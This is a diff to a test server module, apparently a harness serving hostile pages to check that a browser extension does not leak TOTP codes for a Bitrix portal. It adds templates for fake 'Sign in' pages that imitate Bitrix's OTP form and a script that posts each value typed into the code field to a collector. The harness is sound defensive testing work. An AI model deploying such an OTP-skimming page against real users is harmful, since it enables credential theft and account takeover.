@@ -9,7 +9,12 @@
  * - `GET /attacks/<name>.html`: a page of this folder; `{{PORT}}` becomes the port the request came
  *   in on, `{{OTHER_ORIGIN}}` the portal's other origin, `{{VARIANT}}` the `variant` query parameter
  *   (letters and dashes only). `http://evil.test:{{PORT}}` is a foreign site: the test browser maps
- *   every `*.test` host to the portal's address, and it is no portal.
+ *   every `*.test` host to the portal's address, and it is no portal. What several pages share is
+ *   written once, here: a page that is not a whole document (no `<!doctype`) is the body of a
+ *   "Sign in" page (`SIGN_IN_PAGE`); `{{OTP_FIELDS}}` becomes the fields of Bitrix's OTP form that
+ *   the pages imitate (`OTP_FIELDS`), while the form element and its submit button, where the
+ *   attacks are, stay in each page; `{{SEND_FIELD_HOME}}` becomes a script that posts whatever lands
+ *   in the code field to the collector, `from` the page's name (`sendFieldHome`).
  * - `HEAD` of a page in `SLOW_HEAD`: answered after `SLOW_HEAD_MS`. The extension reads the portal's
  *   clock with a HEAD of the sign-in page before it hands out a TOTP code; a slow answer is a slow
  *   portal, and holds open the moment between the extension's check of a frame and its sending the code.
@@ -37,6 +42,67 @@ export const ATTACKS_PATH = '/attacks/';
 export const SLOW_HEAD_MS = 1500;
 const SLOW_HEAD = new Set(['/attacks/frame-race.html']);
 const MAX_BODY = 64 * 1024;
+
+/** The document a page that is only a body (after its opening comment) is served in. */
+const SIGN_IN_PAGE = [
+  '<!doctype html>',
+  '{{COMMENT}}',
+  '<html lang="en">',
+  '<head><meta charset="utf-8"><title>Sign in</title></head>',
+  '<body>',
+  '  {{BODY}}',
+  '</body>',
+  '</html>',
+];
+
+/** The fields of the classic component's OTP step (../pages.js) that the hostile pages' forms hold. */
+const OTP_FIELDS = [
+  '<input type="hidden" name="AUTH_FORM" value="Y">',
+  '<input type="hidden" name="TYPE" value="OTP">',
+  '<p>One-time password: <input type="text" name="USER_OTP" maxlength="50" autocomplete="off"></p>',
+];
+
+/**
+ * What a collecting page runs: every value its code field takes goes to the collector on its origin.
+ * @param {string} from the page's name, which the posts carry
+ */
+const sendFieldHome = (from) => [
+  '<script>',
+  "  const field = document.querySelector('input[name=USER_OTP]');",
+  "  field.addEventListener('input', () => {",
+  `    fetch('/attacks/collect', { method: 'POST', body: new URLSearchParams({ from: '${from}', USER_OTP: field.value }) });`,
+  '  });',
+  '</script>',
+];
+
+/**
+ * `text` with `lines` in place of each line that holds only `{{name}}`, at that line's indentation.
+ * @param {string} text
+ * @param {string} name
+ * @param {string[]} lines
+ */
+function expandLines(text, name, lines) {
+  return text.replace(new RegExp(`^([ \\t]*)\\{\\{${name}\\}\\}$`, 'gm'), (_, indent) =>
+    lines.map((line) => (line ? indent + line : line)).join('\n'),
+  );
+}
+
+/**
+ * The page `name` of this folder as it is served, before the request's own placeholders.
+ * @param {string} name e.g. `receiver.html`
+ * @param {string} file the page as this folder has it
+ */
+function expandPage(name, file) {
+  let page = file;
+  if (!/^<!doctype/i.test(file)) {
+    // A body: in SIGN_IN_PAGE, its opening comment where a whole page has it, after the doctype.
+    const [, comment, body = ''] = /^(?:(<!--[\s\S]*?-->)\n)?([\s\S]*?)\n?$/.exec(file) ?? [];
+    page = expandLines(SIGN_IN_PAGE.join('\n'), 'COMMENT', comment ? comment.split('\n') : []);
+    page = `${expandLines(page, 'BODY', body.split('\n'))}\n`;
+  }
+  page = expandLines(page, 'OTP_FIELDS', OTP_FIELDS);
+  return expandLines(page, 'SEND_FIELD_HOME', sendFieldHome(name.replace(/\.html$/, '')));
+}
 
 /** @returns {AttackLog} */
 export function createAttackLog() {
@@ -109,7 +175,7 @@ export async function attackRoute(log, req, res, url, origins) {
   const variant = /^[a-z-]*$/.test(url.searchParams.get('variant') ?? '')
     ? (url.searchParams.get('variant') ?? '')
     : '';
-  const html = template
+  const html = expandPage(name ?? '', template)
     .replaceAll('{{PORT}}', port)
     .replaceAll('{{OTHER_ORIGIN}}', other)
     .replaceAll('{{VARIANT}}', variant);
